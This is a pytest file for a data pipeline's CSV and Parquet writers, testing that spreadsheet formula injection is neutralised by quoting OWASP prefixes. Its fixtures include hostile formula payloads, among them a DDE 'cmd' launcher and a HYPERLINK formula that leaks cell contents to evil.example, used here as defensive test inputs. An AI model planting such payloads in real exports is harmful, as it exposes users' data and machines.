"""Tests of pipeline.io: spreadsheet-safe CSV (OWASP formula neutralisation), Parquet as is."""

from __future__ import annotations

import csv

import numpy as np
import pandas as pd
import pytest

from pipeline.io import FORMULA_PREFIXES, neutralise_formulas, write_csv, write_parquet

FORMULAS = [
    "=1+2",
    "@SUM(A1)",
    "+cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "-2+3",
    "\t=1+2",
    "\r=1+2",
]
SAFE = ["plain", "a=1", " =1+2", "1-2", "", "'=already quoted"]


def _rows(path):
    with open(path, newline="", encoding="utf-8") as f:
        return list(csv.reader(f))


def test_formula_cells_are_quoted_and_numbers_are_not(tmp_path):
    n = len(FORMULAS) + len(SAFE)
    frame = pd.DataFrame(
        {
            "text": FORMULAS + SAFE,
            "neg_float": np.linspace(-3.25, 1.0, n),
            "neg_int": np.arange(-5, n - 5),
        }
    )
    path = write_csv(frame, tmp_path / "t.csv")
    header, *rows = _rows(path)
    assert header == ["text", "neg_float", "neg_int"]
    texts = [r[0] for r in rows]
    assert texts == ["'" + t for t in FORMULAS] + SAFE
    assert rows[0][1] == "-3.250000" and rows[0][2] == "-5"  # numbers stay numbers
    assert all(not r[1].startswith("'") and not r[2].startswith("'") for r in rows)


@pytest.mark.parametrize(
    "dtype", ["object", "string", "str", "category"], ids=["object", "string", "str", "category"]
)
def test_every_text_dtype_is_neutralised(dtype):
    col = pd.Series(["=1+2", "-x", "ok", None], dtype=dtype)
    out = neutralise_formulas(pd.DataFrame({"c": col}))["c"]
    assert out.tolist()[:3] == ["'=1+2", "'-x", "ok"]
    assert pd.isna(out.iloc[3])


def test_mixed_object_column_quotes_only_the_strings():
    # the rejects 'value' column holds whatever the reader rejected: text, floats, ints
    frame = pd.DataFrame({"value": pd.Series(["-91.5", -91.5, -3, "@x", None], dtype=object)})
    out = neutralise_formulas(frame)["value"].tolist()
    assert out[:4] == ["'-91.5", -91.5, -3, "'@x"] and out[4] is None
    assert frame["value"].iloc[0] == "-91.5"  # the input is not modified


def test_column_names_are_neutralised_too():
    out = neutralise_formulas(pd.DataFrame({"=cmd": [1], "ok": [2]}))
    assert list(out.columns) == ["'=cmd", "ok"]


def test_prefixes_are_owasps():
    assert set(FORMULA_PREFIXES) == {"=", "+", "-", "@", "\t", "\r"}


def test_parquet_keeps_the_original_values(tmp_path):
    frame = pd.DataFrame({"note": FORMULAS, "x": -np.arange(len(FORMULAS), dtype=float)})
    back = pd.read_parquet(write_parquet(frame, tmp_path / "t.parquet"))
    assert back["note"].tolist() == FORMULAS
    assert back["x"].tolist() == frame["x"].tolist()


def test_rejects_file_of_a_hostile_input_is_spreadsheet_safe(tmp_path):
    """Rejected values and the input's own file name reach rejects/*.csv quoted."""
    from pipeline.ingest import read_seizures
    from pipeline.ingest.summary import write_rejects

    name = '=HYPERLINK("http:evil","x").csv'
    src = tmp_path / name
    src.write_text(
        "date,lat,lon,commodity,quantity,note\n"
        "2024-01-02,10.5,-20.25,cocaine,5,=1+2\n"
        "2024-01-03,=1+2,-20.25,@SUM(A1),5,fine\n"
        "2024-01-04,10.5,+cmd|' /C calc'!A0,cocaine,5,fine\n",
        encoding="utf-8",
    )
    result = read_seizures(src)
    assert result.n_rejected == 2 and result.frame[["note"]].iloc[0, 0] == "=1+2"
    rows = _rows(write_rejects(result, tmp_path / "out"))
    cells = [c for r in rows[1:] for c in r]
    assert "'=1+2" in cells and "'+cmd|' /C calc'!A0" in cells
    assert not [c for c in cells if c.startswith(FORMULA_PREFIXES)], cells
    assert [r[0] for r in rows[1:]] == ["'" + name] * 2  # the input file name, too


@pytest.mark.parametrize(
    "values", [[1, 2], [None, None], [b"=x", b"y"], [1.5, None]], ids=["int", "none", "bytes", "f"]
)
def test_object_columns_without_text_are_left_alone(values):
    frame = pd.DataFrame({"c": pd.Series(values, dtype=object)})
    pd.testing.assert_frame_equal(neutralise_formulas(frame), frame)


def test_a_carriage_return_in_a_cell_does_not_split_the_row(tmp_path):
    frame = pd.DataFrame({"note": ["a\rb", "\r=1+2", "c"], "x": [1.0, 2.0, 3.0]})
    rows = _rows(write_csv(frame, tmp_path / "cr.csv"))
    assert rows == [["note", "x"], ["a\rb", "1.000000"], ["'\r=1+2", "2.000000"], ["c", "3.000000"]]
    plain = write_csv(frame.assign(note=["a", "b", "c"]), tmp_path / "lf.csv").read_bytes()
    assert b"\r" not in plain  # LF line ends unless a cell needs CRLF
